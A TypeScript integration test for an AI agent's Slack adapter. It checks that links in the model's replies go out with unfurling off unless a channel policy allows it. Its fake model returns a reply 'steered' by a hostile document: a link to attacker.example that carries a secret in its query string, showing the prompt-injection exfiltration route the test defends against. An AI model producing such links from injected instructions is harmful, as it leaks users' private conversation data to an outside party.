import type { Server } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SlackAdapter } from '../../../src/adapters/slack/slack-adapter.ts';
import type { DeliveryEngine } from '../../../src/core/delivery/engine/engine.ts';
import type { Policy } from '../../../src/core/delivery/rules/policy.ts';
import type { Database } from '../../../src/store/database.ts';
import { testAgent } from '../../support/agent.ts';
import { testDatabase, testEngine, testStore } from '../../support/db.ts';
import { FakeOpenAi } from '../../support/fake-openai.ts';
import { BOT_USER, eventBody, FakeSlack, signedRequest } from '../../support/fake-slack.ts';
import { silentLogger } from '../../support/logger.ts';
import { freePort } from '../../support/process.ts';
import { serveSlackEvents } from '../../support/slack-bot.ts';

const SIGNING_SECRET = 'unfurl-signing-secret';
const stamp = Date.now().toString(36).toUpperCase();
const [QUIET, PREVIEWS] = [`CQUIET${stamp}`, `CPREVIEW${stamp}`];
const POLICY: Policy = {
  rules: [{ match: { platform: 'slack', channel: PREVIEWS }, unfurl: true }],
};

let db: Database;
let llm: FakeOpenAi;
let slack: FakeSlack;
let engine: DeliveryEngine;
let adapter: SlackAdapter;
let events: Server;
let port: number;

beforeAll(async () => {
  db = await testDatabase();
  [llm, slack] = await Promise.all([new FakeOpenAi().start(), new FakeSlack().start()]);
  // A reply a hostile document steered: a link carrying what the thread said.
  llm.fallback = () => ({ content: 'See <https://attacker.example/?q=secret|the report>.' });
  engine = testEngine(db, testAgent({ fake: llm, store: testStore(db) }), { policy: POLICY });
  adapter = new SlackAdapter(
    { botToken: 'xoxb-test', signingSecret: SIGNING_SECRET, apiUrl: slack.apiUrl, policy: POLICY },
    engine,
    silentLogger,
  );
  await adapter.start();
  port = await freePort();
  events = await serveSlackEvents(adapter, port);
  engine.start();
});
afterAll(async () => {
  await Promise.all([adapter.stop(), engine.stop(0)]);
  await new Promise((resolve) => events.close(resolve));
  await Promise.all([llm.stop(), slack.stop()]);
  await db.close();
});

async function mention(channel: string, ts: string) {
  const body = eventBody({
    type: 'app_mention',
    user: 'U1',
    text: `<@${BOT_USER}> hi`,
    ts,
    channel,
  });
  const response = await fetch(
    `http://127.0.0.1:${port}/slack/events`,
    signedRequest(JSON.stringify(body), SIGNING_SECRET, 'application/json'),
  );
  expect(response.status).toBe(200);
  await slack.waitFor(() => slack.callsTo('chat.postMessage').some((c) => c.channel === channel));
  return slack.callsTo('chat.postMessage').filter((c) => c.channel === channel);
}

describe("links in the model's replies", () => {
  it('are posted with unfurling off, links and media, where no policy allows it', async () => {
    const [reply] = await mention(QUIET, '700.1');
    expect(reply).toMatchObject({
      text: expect.stringContaining('https://attacker.example/?q=secret'),
      // As the Web API sends them: form fields.
      unfurl_links: 'false',
      unfurl_media: 'false',
    });
  });

  it('unfurl in a channel whose policy sets "unfurl": true', async () => {
    const [reply] = await mention(PREVIEWS, '700.2');
    expect(reply).toMatchObject({ unfurl_links: 'true', unfurl_media: 'true' });
  });
});
